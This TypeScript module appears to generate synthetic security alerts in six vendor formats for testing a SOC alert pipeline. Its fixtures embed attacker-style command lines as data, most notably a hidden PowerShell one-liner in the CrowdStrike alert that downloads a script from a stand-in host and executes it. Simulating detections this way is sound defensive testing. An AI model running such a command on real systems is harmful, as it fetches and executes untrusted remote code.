import { createHash } from 'node:crypto';
import type { JsonObject } from '../../libs/kernel';

/**
 * Alerts as a SOC of some thousand machines gets them, of six products and 1 to 2 KB each: a twentieth of them is sent
 * again unchanged, a twentieth in a later version, and the rest names one of a few hundred machines and accounts, so that
 * most join a case that is open. The same number gives the same alert in every run.
 */
export class AlertMix {
  /** @param run sets the ids of one run apart from those of another. */
  constructor(private readonly run: string) {}

  /** Of the product whose source sends it: `PRODUCTS[number % PRODUCTS.length]`. */
  alert(number: number): JsonObject {
    const turn = number % 20;
    const sentBefore = number >= 4 * PRODUCTS.length && (turn === 7 || turn === 13);
    const subject = sentBefore ? number - 3 * PRODUCTS.length : number;
    const make = MAKERS[subject % MAKERS.length] ?? elastic;
    return make(subjectOf(this.run, subject), sentBefore && turn === 13 ? 'high' : 'medium');
  }

  /** NDJSON of the alerts of one product among the `count` after `first`. */
  lines(product: number, first: number, count: number): Buffer {
    const lines: string[] = [];
    for (let number = first; number < first + count; number += 1) {
      if (number % PRODUCTS.length === product) lines.push(`${JSON.stringify(this.alert(number))}\n`);
    }
    return Buffer.from(lines.join(''));
  }
}

/** The formats of the mix, a source each. */
export const PRODUCTS = [
  'elastic-alert',
  'splunk-notable',
  'microsoft-defender-alert',
  'aws-guardduty',
  'crowdstrike-alert',
  'okta-system-log',
] as const;

/** What an alert is about. */
interface Subject {
  readonly id: string;
  readonly host: string;
  readonly user: string;
  readonly source: string;
  readonly destination: string;
  readonly hash: string;
  readonly time: string;
  readonly text: string;
}

type Grade = 'medium' | 'high';

const MACHINES = 400;

function subjectOf(run: string, number: number): Subject {
  const digest = createHash('sha256').update(`${run} ${number}`).digest();
  const machine = digest.readUInt16BE(0) % MACHINES;
  const account = machine + (digest.readUInt8(2) % 3);
  return {
    id: digest.toString('hex', 3, 19),
    host: `ws-${String(machine).padStart(4, '0')}.corp.example.com`,
    user: `user${account}`,
    source: `10.${machine % 8}.${machine % 200}.${1 + (digest.readUInt8(20) % 250)}`,
    destination: `203.0.113.${digest.readUInt8(21) % 256}`,
    hash: digest.toString('hex'),
    time: new Date(1_795_528_800_000 + number * 20).toISOString(),
    text: `Process chain on ws-${machine} reached 203.0.113.${digest.readUInt8(21) % 256} after a script of ${digest.readUInt16BE(22)} bytes was unpacked in a folder of the user. `,
  };
}

const MAKERS: readonly ((subject: Subject, grade: Grade) => JsonObject)[] = [
  elastic,
  splunk,
  defender,
  guardDuty,
  crowdStrike,
  okta,
];

function elastic({ id, host, user, source, destination, hash, time, text }: Subject, grade: Grade): JsonObject {
  return {
    '@timestamp': time,
    'kibana.alert.uuid': id,
    'kibana.alert.reason': text.repeat(2),
    'kibana.alert.severity': grade,
    'kibana.alert.risk_score': grade === 'high' ? 73 : 47,
    'kibana.alert.rule.name': 'Suspicious script unpacked in a user folder',
    'kibana.alert.rule.rule_id': '5c6f4c58-b381-452a-8976-f1b1c6aa0def',
    'kibana.alert.rule.category': 'Custom Query Rule',
    'kibana.alert.rule.threat': [
      {
        framework: 'MITRE ATT&CK',
        tactic: { id: 'TA0002', name: 'Execution', reference: 'https://attack.mitre.org/tactics/TA0002/' },
        technique: [{ id: 'T1059', name: 'Command and Scripting Interpreter', subtechnique: [{ id: 'T1059.001' }] }],
      },
    ],
    'kibana.version': '9.2.0',
    event: { kind: 'signal', category: ['process'], dataset: 'endpoint.events.process', module: 'endpoint' },
    host: { name: host, os: { name: 'Windows', version: '11' }, ip: [source] },
    user: { name: user, domain: 'CORP' },
    source: { ip: source, port: 51544 },
    destination: { ip: destination, port: 443 },
    process: {
      name: 'powershell.exe',
      pid: 4711,
      executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      command_line: 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\Public\\update.ps1',
      hash: { sha256: hash },
      parent: { name: 'winword.exe' },
    },
  };
}

function splunk({ id, host, user, source, destination, hash, time, text }: Subject, grade: Grade): JsonObject {
  return {
    _time: time,
    event_id: `${id}@@notable@@${id}`,
    search_name: 'Endpoint - Script from an unusual folder - Rule',
    rule_title: 'Script from an unusual folder',
    rule_description: text.repeat(3),
    security_domain: 'endpoint',
    urgency: grade,
    risk_score: '48',
    src: source,
    dest: host,
    dest_ip: destination,
    user,
    process: 'wscript.exe C:\\Users\\Public\\Documents\\invoice.js --silent',
    process_name: 'wscript.exe',
    process_path: 'C:\\Windows\\System32\\wscript.exe',
    parent_process_name: 'explorer.exe',
    file_name: 'invoice.js',
    file_hash: hash,
    'annotations.mitre_attack': ['T1204.002', 'T1059.007'],
    index: 'notable',
    source: 'Endpoint - Script from an unusual folder - Rule',
    sourcetype: 'stash',
    status: '1',
    owner: 'unassigned',
  };
}

function defender({ id, host, user, source, destination, hash, time, text }: Subject, grade: Grade): JsonObject {
  return {
    id: `da${id}`,
    tenantId: '9c1d8f34-6a55-4a0f-8f7e-2b7f6f3a9d10',
    providerAlertId: id,
    status: 'new',
    severity: grade,
    serviceSource: 'microsoftDefenderForEndpoint',
    detectionSource: 'antivirus',
    detectorId: '8f1ab28e-9a3c-4f2e-9a57-6b1b3c2d0f11',
    title: 'Suspicious process wrote to a user folder',
    description: text.repeat(2),
    category: 'Execution',
    mitreTechniques: ['T1059.001', 'T1105'],
    createdDateTime: time,
    firstActivityDateTime: time,
    lastActivityDateTime: time,
    alertWebUrl: 'https://security.microsoft.com/alerts/da1',
    evidence: [
      {
        '@odata.type': '#microsoft.graph.security.deviceEvidence',
        deviceDnsName: host,
        osPlatform: 'Windows11',
        ipInterfaces: [source],
        loggedOnUsers: [{ accountName: user, domainName: 'CORP' }],
      },
      {
        '@odata.type': '#microsoft.graph.security.processEvidence',
        processId: 8124,
        processCommandLine: 'cmd.exe /c start update.exe',
        imageFile: { fileName: 'update.exe', filePath: 'C:\\Users\\Public', sha256: hash },
        userAccount: { accountName: user, domainName: 'CORP', userPrincipalName: `${user}@example.com` },
      },
      { '@odata.type': '#microsoft.graph.security.ipEvidence', ipAddress: destination },
    ],
  };
}

function guardDuty({ id, host, user, source, destination, time, text }: Subject, grade: Grade): JsonObject {
  return {
    schemaVersion: '2.0',
    accountId: '111122223333',
    region: 'eu-central-1',
    partition: 'aws',
    id,
    arn: `arn:aws:guardduty:eu-central-1:111122223333:detector/16ab/finding/${id}`,
    type: 'UnauthorizedAccess:EC2/MaliciousIPCaller.Custom',
    resource: {
      resourceType: 'Instance',
      accessKeyDetails: { userName: user },
      instanceDetails: {
        instanceId: host,
        instanceType: 'm5.large',
        imageId: 'ami-0abcdef1234567890',
        networkInterfaces: [{ privateIpAddress: source, subnetId: 'subnet-0123', vpcId: 'vpc-0123', publicIp: '' }],
        tags: [{ key: 'team', value: 'payments' }],
      },
    },
    service: {
      serviceName: 'guardduty',
      detectorId: '16ab',
      action: {
        actionType: 'NETWORK_CONNECTION',
        networkConnectionAction: {
          connectionDirection: 'OUTBOUND',
          protocol: 'TCP',
          blocked: false,
          localPortDetails: { port: 49152, portName: 'Unknown' },
          remotePortDetails: { port: 443, portName: 'HTTPS' },
          remoteIpDetails: { ipAddressV4: destination, country: { countryName: 'Exampleland' } },
        },
      },
      eventFirstSeen: time,
      eventLastSeen: time,
      archived: false,
      count: 3,
    },
    severity: grade === 'high' ? 8 : 5,
    createdAt: time,
    updatedAt: time,
    title: 'An instance speaks with an address of a custom threat list',
    description: text.repeat(2),
  };
}

function crowdStrike({ id, host, user, source, destination, hash, time, text }: Subject, grade: Grade): JsonObject {
  return {
    composite_id: `cid0001:ind:${id}`,
    cid: 'cid0001',
    name: 'SuspiciousScriptDownload',
    display_name: 'A script was downloaded and run',
    description: text.repeat(2),
    severity: grade === 'high' ? 70 : 50,
    tactic: 'Execution',
    tactic_id: 'TA0002',
    technique: 'PowerShell',
    technique_id: 'T1059.001',
    timestamp: time,
    created_timestamp: time,
    type: 'ldt',
    product: 'epp',
    pattern_id: 10417,
    falcon_host_link: 'https://falcon.crowdstrike.com/activity-v2/detections/cid0001',
    device: { hostname: host, local_ip: source, platform_name: 'Windows', os_version: 'Windows 11' },
    user_name: user,
    source_ip_address: source,
    network_accesses: [{ remote_address: destination, remote_port: 443, protocol: 'TCP' }],
    filename: 'powershell.exe',
    filepath: '\\Device\\HarddiskVolume3\\Windows\\System32\\powershell.exe',
    cmdline: 'powershell.exe -w hidden -c "iwr https://files.example.net/a.ps1 | iex"',
    local_process_id: '5120',
    sha256: hash,
    parent_details: { filename: 'cmd.exe', cmdline: 'cmd.exe /c a.bat' },
    pattern_disposition_description: 'Detection, process would have been blocked',
  };
}

function okta({ id, host, user, source, hash, time, text }: Subject, grade: Grade): JsonObject {
  return {
    uuid: id,
    published: time,
    eventType: 'user.session.start',
    version: '0',
    severity: grade === 'high' ? 'ERROR' : 'WARN',
    displayMessage: 'User login to Okta',
    actor: { id: '00u1', type: 'User', alternateId: `${user}@example.com`, displayName: user },
    client: {
      ipAddress: source,
      zone: 'null',
      device: 'Computer',
      userAgent: { rawUserAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', os: 'Windows 10', browser: 'CHROME' },
      geographicalContext: { city: 'Exampleton', country: 'Exampleland', geolocation: { lat: 50.1, lon: 8.7 } },
    },
    outcome: { result: 'FAILURE', reason: text.repeat(2) },
    target: [{ id: '0oa1', type: 'AppInstance', alternateId: 'payments', displayName: 'Payments' }],
    transaction: { type: 'WEB', id: hash.slice(0, 24) },
    device: { name: host, os_platform: 'WINDOWS', managed: true, registered: true },
    debugContext: { debugData: { requestUri: '/api/v1/authn', url: 'https://login.example.com/api/v1/authn?x=1' } },
    securityContext: { asNumber: 64500, asOrg: 'example', isp: 'example isp', domain: 'example.net', isProxy: false },
    request: { ipChain: [{ ip: source, version: 'V4' }] },
  };
}
